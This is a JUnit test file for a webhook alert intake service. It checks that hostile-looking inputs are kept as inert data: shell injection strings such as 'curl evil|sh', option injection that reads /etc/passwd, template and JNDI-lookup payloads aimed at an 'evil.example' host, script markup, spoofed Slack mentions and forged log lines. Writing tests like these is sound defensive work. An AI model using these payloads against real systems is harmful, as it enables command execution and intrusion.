package io.firebreak.webhook;

import static io.firebreak.webhook.HookWorld.group;
import static org.assertj.core.api.Assertions.assertThat;

import io.firebreak.alert.Flag;
import io.firebreak.webhook.HookWorld.Answer;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Text from alerts that would like to be code, a mention, a page or a log line. */
class HookHostileTextTest {
  private final HookWorld world = new HookWorld();

  private void accepted(Answer answer) {
    assertThat(answer.status()).isEqualTo(202);
    assertThat(answer.body().at("/alerts/0/disposition").asText()).isEqualTo("new");
    assertThat(answer.body().has("dead_letter")).isFalse();
  }

  @AfterEach
  void close() {
    world.close();
  }

  /** A label's value comes out of the store as it came in. */
  private void keptAsData(String jsonValue, String value) {
    var answer = world.post(group("{\"alertname\":\"a\",\"pod\":\"%s\"}".formatted(jsonValue), ""));
    accepted(answer);
    var id = answer.body().path("delivery_id").asText();
    var stored = world.intake.delivery("default", id).orElseThrow();
    assertThat(stored.alerts().getFirst().labels().get("pod")).isEqualTo(value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"x; curl evil|sh", "`id`", "$(id)", "${IFS}", "'", "&&", "%0a", "x' OR 1=1 --"})
  @Tag("B17")
  @DisplayName("B17 what a shell would run is data")
  void b17(String value) {
    keptAsData(value, value);
  }

  @Test
  @Tag("B17")
  @DisplayName("B17 line breaks, quotes and NUL are data too")
  void b17Escaped() {
    keptAsData("a\\nb", "a\nb");
    keptAsData("a\\\"b", "a\"b");
    keptAsData("a\\u0000b", "a\0b");
  }

  @ParameterizedTest
  @ValueSource(strings = {"--kubeconfig=/tmp/x", "-oProxyCommand=id", "@/etc/passwd", "-"})
  @Tag("B18")
  @DisplayName("B18 what looks like an option is data")
  void b18(String value) {
    keptAsData(value, value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "{%print 7*7%}",
        "${jndi:ldap://evil.example/a}",
        "{str:eval(7*7)}",
        "${{ 7*7 }}"
      })
  @Tag("B19")
  @DisplayName("B19 what looks like a template is never evaluated")
  void b19(String value) {
    keptAsData(value, value);
  }

  @Test
  @Tag("B20")
  @DisplayName("B20 only http and https become links; markup stays text")
  void b20() {
    var more =
        ",\"annotations\":{\"summary\":\"<script>alert(1)</script>\","
            + "\"runbook_url\":\"javascript:alert(1)\",\"dashboard_url\":\"https://grafana.example/d\"},"
            + "\"generatorURL\":\"data:text/html,<script>\"";
    accepted(world.post(group("{\"alertname\":\"a\"}", more)));

    var alert = world.accepted.getFirst().alerts().getFirst();
    assertThat(alert.links()).containsOnly(Map.entry("dashboard", "https://grafana.example/d"));
    assertThat(alert.annotations())
        .containsEntry("summary", "<script>alert(1)</script>")
        .containsEntry("runbook_url", "javascript:alert(1)");
  }

  @Test
  @Tag("B21")
  @DisplayName("B21 what Slack would take for a mention is kept as text")
  void b21() {
    var text = "<!channel> <!here> <@U123> <!subteam^S1> <https://evil|Approve> ``` *_~";
    accepted(
        world.post(
            group("{\"alertname\":\"a\"}", ",\"annotations\":{\"summary\":\"" + text + "\"}")));
    assertThat(world.accepted.getFirst().alerts().getFirst().annotations())
        .containsEntry("summary", text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\\u202eb", "a\\u200bb", "\\u001b[2J", "a\\u2066b"})
  @Tag("B22")
  @DisplayName("B22 hidden characters are kept and flagged")
  void b22(String value) {
    accepted(world.post(group("{\"alertname\":\"a\",\"pod\":\"" + value + "\"}", "")));
    assertThat(world.accepted.getFirst().alerts().getFirst().has(Flag.HIDDEN_CHARACTERS)).isTrue();
  }

  @Test
  @Tag("B22")
  @DisplayName("B22 one line of a megabyte is a dead letter")
  void b22Long() {
    world.deadLetter(group("{\"a\":\"" + "x".repeat(1_000_000) + "\"}", ""), "JSON_LIMITS");
    world.deadLetter(group("{\"a\":\"" + "x".repeat(1_025) + "\"}", ""), "LABEL_LIMITS");
  }

  @Test
  @Tag("B23")
  @DisplayName("B23 a forged log line in a label is data in one row")
  void b23() {
    keptAsData(
        "\\r\\n{\\\"level\\\":\\\"INFO\\\",\\\"msg\\\":\\\"approved by cto\\\"}",
        "\r\n{\"level\":\"INFO\",\"msg\":\"approved by cto\"}");
    assertThat(world.rows("SELECT alerts FROM delivery")).noneMatch(json -> json.contains("\n"));
  }
}
